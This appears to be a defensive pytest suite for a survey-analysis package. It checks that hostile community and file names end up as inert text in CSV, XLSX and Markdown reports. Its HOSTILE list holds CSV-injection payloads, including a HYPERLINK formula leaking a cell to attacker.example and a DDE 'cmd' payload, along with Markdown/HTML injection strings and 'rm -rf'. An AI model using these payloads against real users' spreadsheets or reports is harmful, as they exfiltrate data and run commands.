"""Outputs cannot be turned against their reader (issue 13): hostile community and file names
through `evaluate` and the command line land as inert text in communities.csv, results.xlsx and
report.md."""

from __future__ import annotations

import csv
import html
import re
import warnings
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import collective_efficacy as ce
from collective_efficacy.cli import main
from collective_efficacy.export._escape import escape_markdown, neutralise_cell
from collective_efficacy.export.tables import write_csv, write_xlsx

COLS = ce.datasets.EXAMPLE_COLUMNS

# OWASP CSV-injection payloads and Markdown/HTML payloads, as community names
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "![t](http://attacker.example/p.png)",
    "[x](javascript:alert(1))",
    "A|B",
    "two\n# lines",
    "`rm -rf`",
    "<img src=x onerror=alert(1)>",
    "- item",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def _hostile_waves() -> tuple[pd.DataFrame, pd.DataFrame]:
    before, after = ce.datasets.load_example(split=True)
    names = sorted(set(before["buurt"].dropna()) & set(after["buurt"].dropna()))
    rename = dict(zip(names, HOSTILE))
    return before.replace({"buurt": rename}), after.replace({"buurt": rename})


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory) -> tuple[Path, Path]:
    d = tmp_path_factory.mktemp("hostile")
    before, after = _hostile_waves()
    b = d / "![t](http:attacker.example p.png).csv"
    a = d / "[x](javascript:alert(1))\n# heading.csv"
    # quoted: pandas leaves a lone CR unquoted, which the reader refuses (it splits a row)
    before.to_csv(b, index=False, quoting=csv.QUOTE_ALL)
    after.to_csv(a, index=False, quoting=csv.QUOTE_ALL)
    return b, a


@pytest.fixture(scope="module")
def hostile_out(hostile_files, tmp_path_factory) -> Path:
    b, a = hostile_files
    out = tmp_path_factory.mktemp("hostile_out")
    argv = ["evaluate", str(b), str(a), "--community", "buurt", "--respondent", "respondent_id"]
    argv += ["--columns", str(_columns_file(out.parent)), "--out", str(out), "--xlsx", "--quiet"]
    assert main(argv) == 0
    return out


def _columns_file(d: Path) -> Path:
    import json

    p = d / "hostile_columns.json"
    p.write_text(json.dumps(COLS), encoding="utf-8")
    return p


def _assert_inert_cell(cell: str) -> None:
    if cell.startswith(FORMULA_START):
        assert PLAIN_NUMBER.fullmatch(cell), f"live formula cell {cell!r}"


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:  # keep a CR inside a cell
        return list(csv.reader(f))


def test_csv_cells_are_inert(hostile_out) -> None:
    rows = _csv_rows(hostile_out / "communities.csv")
    for row in rows:
        for cell in row:
            _assert_inert_cell(cell)
    names = {r[0] for r in rows[1:]}
    assert '\'=HYPERLINK("http://attacker.example/?leak="&A1,"click")' in names
    assert "'+cmd|' /C calc'!A0" in names and "'@SUM(1)" in names and "'-2+3" in names
    # validate normalises labels (tab/CR trimmed), so "\t=1+1" and "\r=1+1" arrive as "=1+1"
    assert "'=1+1" in names and "'- item" in names
    # numbers stay numbers: n as an integer, means as decimals
    table = pd.read_csv(hostile_out / "communities.csv")
    assert str(table["n"].dtype) in ("int64", "float64")  # float only where n is suppressed
    assert table["n"].dropna().apply(float.is_integer).all()
    assert pd.api.types.is_float_dtype(table["mean"])


def test_csv_through_evaluate(hostile_ev, tmp_path) -> None:
    for dialect in ("en", "nl"):
        path = write_csv(hostile_ev.tables["community_scores"], tmp_path / "c.csv", dialect=dialect)
        with open(path, encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f, delimiter="," if dialect == "en" else ";"))
        for row in rows:
            for cell in row:
                _assert_inert_cell(cell)
        names = {r[0] for r in rows[1:]}
        assert "'=1+1" in names and "'-2+3" in names


def test_xlsx_cells_are_inert_and_numbers_numeric(hostile_out) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.load_workbook(hostile_out / "results.xlsx")
    negative = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    _assert_inert_cell(c.value)
                elif isinstance(c.value, (int, float)) and c.value < 0:
                    negative += 1  # e.g. a negative change stays a number
    assert negative > 0
    names = {r[0].value for r in wb["communities"].iter_rows(min_row=2)}
    assert "'@SUM(1)" in names and "'-2+3" in names


def _table_rows_are_whole(md: str) -> None:
    """Every Markdown table row has as many unescaped pipes as its header."""
    width = None
    for line in md.splitlines():
        if not line.startswith("|"):
            width = None
            continue
        pipes = len(re.findall(r"(?<!\\)\|", line))
        width = pipes if width is None else width
        assert pipes == width, line


def _assert_markdown_inert(md: str) -> None:
    _table_rows_are_whole(md)
    headings = [line for line in md.splitlines() if line.startswith("#")]
    for h in headings:  # only the report's own headings; no name started one
        assert "lines" not in h and "heading" not in h, h
    markdown = pytest.importorskip("markdown")
    rendered = markdown.markdown(md, extensions=["tables"])
    for tag in ("<img", "<code", "<script", "<ul>\n<li>item"):
        assert tag not in rendered, tag
    # the only links are the report's own table of contents (in-page anchors)
    links = re.findall(r"<a [^>]*>", rendered)
    assert all(re.fullmatch(r'<a href="#[a-z0-9-]+">', a) for a in links), links
    text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    # the reader sees the names as they are (on one line)
    for name in ("![t](http://attacker.example/p.png)", "[x](javascript:alert(1))", "A|B"):
        assert name in text, name
    assert "<img src=x onerror=alert(1)>" in text and "`rm -rf`" in text and "two # lines" in text


def test_report_md_through_the_cli(hostile_out) -> None:
    md = (hostile_out / "report.md").read_text(encoding="utf-8")
    _assert_markdown_inert(md)
    # the hostile file names are shown, escaped
    assert "!\\[t\\](http:attacker.example p.png).csv" in md
    assert "\\[x\\](javascript:alert(1)) \\# heading.csv" in md


@pytest.fixture(scope="module")
def hostile_ev() -> ce.Evaluation:
    before, after = _hostile_waves()
    return ce.evaluate(
        before, after, community="buurt", respondent="respondent_id", columns=COLS, min_n=10
    )


def test_report_md_through_evaluate(hostile_ev) -> None:
    _assert_markdown_inert(hostile_ev.to_markdown())
    _assert_markdown_inert(hostile_ev.to_markdown(lang="nl"))
    with warnings.catch_warnings():  # matplotlib has no glyph for the CR in one name
        warnings.simplefilter("ignore", UserWarning)
        html_report = hostile_ev.to_html()  # HTML escaping stays as it was
    assert "<img src=x onerror" not in html_report and "&lt;img src=x onerror" in html_report


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_any_text_is_one_inert_markdown_line(text: str) -> None:
    out = escape_markdown(text)
    assert "\n" not in out and "\r" not in out
    assert not re.search(r"(?<!\\)[\[\]`|<>]", out.replace("\\\\", ""))
    assert not out.startswith(("#", "- ", "+ ", "* ", ">", "    "))


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(max_size=20), st.floats(allow_nan=False), st.integers()))
def test_any_cell_is_inert(value: object) -> None:
    out = neutralise_cell(value)
    if not isinstance(value, str):
        assert out == value  # numbers are never touched
    else:
        assert out in (value, "'" + value)
        _assert_inert_cell(out if out == value else "x")


def test_writers_neutralise_column_names_and_keep_callers_frame(tmp_path) -> None:
    t = pd.DataFrame({"=bad": ["=1+1"], "n": [3.0], "d": [-0.123456]})
    copy = t.copy()
    write_csv(t, tmp_path / "t.csv")
    write_xlsx({"t": t}, tmp_path / "t.xlsx")
    pd.testing.assert_frame_equal(t, copy)
    raw = (tmp_path / "t.csv").read_bytes().decode("utf-8")
    assert raw == "'=bad,n,d\r\n'=1+1,3,-0.1235\r\n"
    back = pd.read_excel(tmp_path / "t.xlsx")
    assert list(back.columns) == ["'=bad", "n", "d"] and back["d"].iloc[0] == -0.1235
